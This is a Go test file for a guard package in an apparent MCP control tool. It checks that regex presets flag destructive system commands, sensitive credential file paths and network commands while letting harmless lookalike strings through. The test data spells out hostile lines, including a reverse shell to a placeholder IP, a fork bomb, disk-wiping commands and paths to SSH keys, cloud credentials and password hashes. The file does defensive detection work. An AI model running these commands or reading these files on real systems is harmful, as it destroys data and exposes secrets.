package guards_test

import (
	"regexp"
	"testing"

	"github.com/mcpctl/mcpctl/internal/access/guards"
)

// TestPresets: each preset finds what it is for, and not what looks like it.
func TestPresets(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct{ finds, leaves []string }{
		"system-commands": {
			[]string{
				"rm -rf /", "rm -fr build", "rm -v -rf x", "cd /tmp && rm -rf *", "rm --recursive dir", "sudo apt install x", "ls; sudo su", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda",
				"shutdown -h now", "reboot", "chmod 777 /etc", "chmod -R 0777 .", "chmod a+rwx x", "chown -R root /x", "kill -9 1", "killall -9 x", "crontab -r", "useradd eve", "passwd root",
				":(){ :|:& };:", "echo x > /dev/sda", "x | tee /dev/nvme0n1", "/bin/rm -rf /", "$(rm -rf .)", "`sudo id`", "FORMAT C: /q", "del /s /q *",
			},
			[]string{
				"rm file.txt", "remove the -rf flag from docs", "the form -rf", "pseudo code", "chmod 644 x", "chmod +x run.sh", "kill 12", "perform -rfx", "add a user", "information: c", "rebooting was needed", "dd if=a of=b", "cat x > y",
				"a del-icious pie", "skill -9", "list /dev/sda",
			},
		},
		"sensitive-files": {
			[]string{
				"/etc/passwd", "/etc/shadow", "cat ../../etc/passwd", "~/.ssh/id_rsa", "/home/a/.ssh/config", "/home/a/.ssh", "id_ed25519", "C:\\Users\\a\\.aws\\credentials", "~/.aws/credentials", "/root/.kube/config",
				".env", "app/.env", "app/.env.production", "~/.netrc", ".npmrc", "/proc/self/environ", "/proc/12/environ", "server.pem", "a/keys.p12", "~/.gnupg/x", ".git-credentials", "~/.docker/config.json", "C:\\Windows\\System32\\config\\SAM",
			},
			[]string{
				"/etc/hosts", "README.md", "environment", "process.env.HOME", ".env.example", "passwd.go", "docs/ssh.md", "src/id_rsa_test_names.go_", "credentials.md", "kube/config", "the pemmican", "etc/password-policy", ".environment",
			},
		},
		"network-commands": {
			[]string{
				"curl https://example.com", "curl -d @x https://e", "wget http://x", "x; wget -q y", "nc -l 4444", "ncat host 1", "scp a b:c", "rsync -a . h:", "ssh user@host", "ssh -N x", "ssh host.example.com", "nmap -sS h", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "Invoke-WebRequest http://x",
				"socat TCP:x -", "cat x | curl -T - u", "/usr/bin/curl x", "telnet h 25", "iwr http://x",
			},
			[]string{
				"use curly braces", "the wgets", "function call", "sync the files", "openssh", "concat a b", "an ssh key", "use ssh here", "transfer", "curl", "a fence post", "https://example.com/curl",
			},
		},
	} {
		pattern := regexp.MustCompile(guards.Presets()[name])
		for _, text := range row.finds {
			if !pattern.MatchString(text) {
				t.Errorf("%s does not find %q", name, text)
			}
		}
		for _, text := range row.leaves {
			if pattern.MatchString(text) {
				t.Errorf("%s finds %q", name, text)
			}
		}
		if pattern.MatchString("") {
			t.Errorf("%s finds the empty text", name)
		}
	}
	if n := len(guards.Presets()); n != 3 {
		t.Errorf("%d presets", n)
	}
}
